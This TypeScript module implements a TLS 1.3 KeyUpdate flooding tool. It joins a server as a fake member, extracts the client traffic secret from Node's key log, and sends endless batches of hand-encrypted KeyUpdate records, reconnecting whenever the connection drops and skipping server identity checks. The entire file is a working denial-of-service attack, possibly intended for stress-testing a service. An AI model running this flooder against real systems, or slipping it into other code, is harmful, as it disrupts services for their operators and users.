import { createCipheriv, createHmac, randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { Duplex } from 'node:stream'
import { setTimeout as delay } from 'node:timers/promises'
import { connect as tlsConnect } from 'node:tls'
import type { KnockerPlan } from './plans.js'

/** Records in a batch. */
const BATCH = 200
/** A KeyUpdate that requests no answer, and the content type after it (RFC 8446 §4.6.3, §5.2). */
const KEY_UPDATE = Buffer.of(24, 0, 0, 1, 0, 22)
/** The header of its record: application_data, the version field of TLS 1.2, the length with the tag. */
const RECORD_HEAD = Buffer.of(23, 3, 3, 0, KEY_UPDATE.length + 16)
/** Milliseconds until the next connection. */
const PAUSE_MS = 100

/**
 * Joins like a member, and sends TLS key updates as fast as it can; it joins again each time that its connection is
 * closed. Node has no function for key updates: the records are made here, with the keys that Node gives to a key log.
 */
export async function floodWithKeyUpdates(plan: KnockerPlan): Promise<never> {
  for (;;) {
    await flood(plan).catch(() => {})
    await delay(PAUSE_MS)
  }
}

async function flood({ host, port, tls, name, uuid }: KnockerPlan): Promise<void> {
  const raw = connect(port, host).on('error', () => {})
  await once(raw, 'connect')
  const secured = tlsConnect({
    socket: relay(raw),
    ...tls,
    checkServerIdentity: () => undefined,
    ciphers: 'TLS_AES_128_GCM_SHA256'
  })
  let secret: Buffer | null = null
  secured.on('error', () => {})
  secured.on('keylog', (line: Buffer) => {
    const [label, , hex = ''] = line.toString().trim().split(' ')
    if (label === 'CLIENT_TRAFFIC_SECRET_0') secret = Buffer.from(hex, 'hex')
  })
  await once(secured, 'secureConnect')
  const hello = {
    name,
    from: randomBytes(8).toString('hex').toUpperCase(),
    boot: randomBytes(8).toString('hex'),
    to: uuid
  }
  secured.write(`${JSON.stringify({ tcpnet: 1, ...hello, seq: 0, dial: null, port: null })}\n`)
  await once(secured, 'data')
  if (secret === null) throw new Error('Node does not log the secret of the client')
  // The hello was the first record under these keys.
  for (let [current, sent]: [Buffer, number] = [secret, 1]; !raw.destroyed; sent = 0) {
    const records: Buffer[] = []
    for (; records.length < BATCH; sent = 0) {
      records.push(keyUpdate(current, sent))
      current = expand(current, 'traffic upd', 32)
    }
    if (!raw.write(Buffer.concat(records))) await Promise.race([once(raw, 'drain'), once(raw, 'close')])
  }
}

/** A stream whose output goes to the socket, in addition to data that is written to the socket itself. */
function relay(raw: Socket): Duplex {
  const duplex = new Duplex({
    read: () => raw.resume(),
    write: (chunk, _encoding, done) => raw.write(chunk, () => done()),
    final: (done) => raw.end(done)
  })
  raw.on('data', (chunk) => duplex.push(chunk))
  raw.on('close', () => duplex.destroy())
  return duplex
}

/** A record under the keys of a traffic secret (RFC 8446 §5.2, §5.3, §7.3). */
function keyUpdate(secret: Buffer, sequence: number): Buffer {
  const nonce = expand(secret, 'iv', 12)
  nonce.writeUInt8(nonce.readUInt8(11) ^ sequence, 11)
  const cipher = createCipheriv('aes-128-gcm', expand(secret, 'key', 16), nonce).setAAD(RECORD_HEAD)
  return Buffer.concat([RECORD_HEAD, cipher.update(KEY_UPDATE), cipher.final(), cipher.getAuthTag()])
}

/** HKDF-Expand-Label with SHA-256 and no context, of one block (RFC 8446 §7.1; RFC 5869 §2.3). */
function expand(secret: Buffer, label: string, bytes: number): Buffer {
  const text = Buffer.from(`tls13 ${label}`)
  const info = Buffer.concat([Buffer.of(0, bytes, text.length), text, Buffer.of(0, 1)])
  return createHmac('sha256', secret).update(info).digest().subarray(0, bytes)
}
